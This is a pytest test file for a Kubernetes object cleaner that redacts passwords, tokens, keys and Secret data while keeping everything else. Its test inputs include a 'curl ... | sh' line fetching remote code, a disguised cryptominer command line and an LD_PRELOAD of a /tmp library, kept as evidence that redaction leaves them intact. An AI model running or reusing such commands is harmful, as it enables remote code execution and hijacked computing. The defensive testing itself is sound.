"""Objects keep everything but the secret values that people write into them."""

from __future__ import annotations

import base64
import gzip
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kubewitness.collect.objects import REDACTED, Cleaner, definition


def clean(value: Any) -> Any:
    return Cleaner().object(value)


def pod(**container: Any) -> dict[str, Any]:
    return {"metadata": {"name": "web"}, "spec": {"containers": [{"name": "web", "image": "web:1", **container}]}}


def container(value: dict[str, Any]) -> Any:
    return clean(value)["spec"]["containers"][0]


@pytest.mark.parametrize("name", ["DB_PASSWORD", "AWS_SECRET_ACCESS_KEY", "token", "SshPwd", "PGPASS"])
def test_a_variable_whose_name_says_secret_loses_its_value_and_keeps_its_name(name: str) -> None:
    assert container(pod(env=[{"name": name, "value": "hunter2"}]))["env"] == [{"name": name, "value": REDACTED}]


@pytest.mark.parametrize(
    "variable",
    [
        {"name": "POOL", "value": "pool.example.com:3333"},
        {"name": "LD_PRELOAD", "value": "/tmp/x.so"},
        {"name": "DB_PASSWORD", "valueFrom": {"secretKeyRef": {"name": "db", "key": "password"}}},
        {"name": "DB_PASSWORD", "value": ""},
    ],
)
def test_other_variables_and_references_stay_as_they_are(variable: dict[str, Any]) -> None:
    assert container(pod(env=[variable]))["env"] == [variable]


@pytest.mark.parametrize(
    ("words", "kept"),
    [
        (["server", "--password=hunter2"], ["server", "--password=REDACTE"]),
        (["server", "--api-key", "hunter2"], ["server", "--api-key", REDACTED]),
        (["sh", "-c", "curl http://jane:hunter2@192.0.2.1/x | sh"], None),
    ],
)
def test_secrets_in_command_lines_go(words: list[str], kept: list[str] | None) -> None:
    found = container(pod(command=words))["command"]
    assert "hunter2" not in str(found)
    assert found == kept or (kept is None and "jane" in found[2] and "| sh" in found[2])


@pytest.mark.parametrize(
    "words",
    [
        ["./.system", "-o", "pool.example.com:3333", "-u", "46EPmade-up", "-p", "x", "--cpu-max-threads-hint=75"],
        ["kube-apiserver", "--token-auth-file=/etc/tokens.csv", "--service-account-key-file=/etc/sa.pub"],
        ["--token", "/var/run/token", "--api-key", "--verbose", "--secret-name=db"],
    ],
)
def test_command_lines_without_secrets_stay_word_by_word(words: list[str]) -> None:
    assert container(pod(args=words))["args"] == words


def test_the_manifest_in_an_annotation_is_cleaned_too() -> None:
    applied = json.dumps(pod(env=[{"name": "API_TOKEN", "value": "hunter2"}, {"name": "MODE", "value": "fast"}]))
    value = {"metadata": {"annotations": {"kubectl.kubernetes.io/last-applied-configuration": applied}}}
    found = clean(value)["metadata"]["annotations"]["kubectl.kubernetes.io/last-applied-configuration"]
    assert "hunter2" not in found
    assert json.loads(found)["spec"]["containers"][0]["env"][1] == {"name": "MODE", "value": "fast"}


def test_an_annotation_without_secrets_keeps_its_bytes() -> None:
    applied = json.dumps(pod(), indent=2)
    assert clean({"annotations": {"a": applied}}) == {"annotations": {"a": applied}}


def test_the_data_of_a_secret_in_an_annotation_goes() -> None:
    applied = json.dumps({"kind": "Secret", "data": {"p": "aHVudGVyMg=="}, "stringData": {"q": "hunter2"}})
    found = json.loads(clean({"annotations": {"a": applied}})["annotations"]["a"])
    assert found == {"kind": "Secret", "data": {"p": REDACTED}, "stringData": {"q": REDACTED}}


def test_the_data_of_other_kinds_stays() -> None:
    assert clean({"kind": "ConfigMap", "data": {"p": "plain"}}) == {"kind": "ConfigMap", "data": {"p": "plain"}}


def test_a_packed_manifest_goes_as_a_whole() -> None:
    packed = base64.b64encode(gzip.compress(b'{"password":"hunter2"}')).decode()
    assert clean({"annotations": {"objectset.rio.cattle.io/applied": packed}})["annotations"] == {
        "objectset.rio.cattle.io/applied": REDACTED
    }


def test_keys_and_tokens_go_wherever_they_stand() -> None:
    key = "-----BEGIN RSA PRIVATE KEY-----\nAAAABBBBCCCC\n-----END RSA PRIVATE KEY-----\n"
    found = str(clean({"spec": {"anything": key, "more": base64.b64encode(key.encode()).decode()}}))
    assert "AAAABBBBCCCC" not in found
    assert base64.b64encode(key.encode()).decode()[40:60] not in found


def test_certificates_are_public_and_stay() -> None:
    certificate = "-----BEGIN CERTIFICATE-----\nAAAABBBBCCCC\n-----END CERTIFICATE-----\n"
    value = {"caBundle": base64.b64encode(certificate.encode()).decode(), "data": {"ca.crt": certificate}}
    assert clean(value) == value


def test_parameters_of_volumes_lose_what_is_named_a_secret() -> None:
    csi = {"volumeAttributes": {"password": "hunter2", "server": "192.0.2.7"}, "nodeStageSecretRef": {"name": "nfs"}}
    assert clean({"csi": csi})["csi"] == {
        "volumeAttributes": {"password": REDACTED, "server": "192.0.2.7"}, "nodeStageSecretRef": {"name": "nfs"},
    }  # fmt: skip


def test_what_was_taken_out_is_counted() -> None:
    cleaner = Cleaner()
    cleaner.object(pod(env=[{"name": "A_KEY", "value": "x"}, {"name": "B_KEY", "value": "y"}], args=["--password=zz"]))
    assert cleaner.count == 3


def test_objects_nested_in_annotations_without_end_are_given_up() -> None:
    text = "{}"
    for _ in range(6):
        text = json.dumps({"annotations": {"a": text}, "env": [{"name": "KEY", "value": "hunter2"}]})
    assert "hunter2" not in str(clean({"annotations": {"a": text}}))


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=20),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(
            st.sampled_from(["env", "args", "annotations", "data", "kind", "options", "name", "value", "x"]),
            inner,
            max_size=4,
        )
    ),
    max_leaves=20,
)


@given(_JSON)
def test_an_object_of_any_shape_keeps_its_shape(value: Any) -> None:
    found = clean(value)
    assert type(found) is type(value)
    assert not isinstance(value, dict | list) or len(found) == len(value)


def test_a_definition_keeps_its_names_and_who_converts_it_but_no_schema() -> None:
    spec = {"group": "example.com", "names": {"kind": "X"}, "scope": "Cluster", "conversion": {"strategy": "Webhook"}}
    versions = [{"name": "v1", "served": True, "storage": True, "schema": {"openAPIV3Schema": {"type": "object"}}}]
    found = definition({"metadata": {"name": "x", "managedFields": [1]}, "spec": {**spec, "versions": versions}})
    assert found["spec"] == {**spec, "versions": [{"name": "v1", "served": True, "storage": True}]}
    assert found["metadata"] == {"name": "x"}
    assert definition({"spec": 7}) == {"spec": 7}
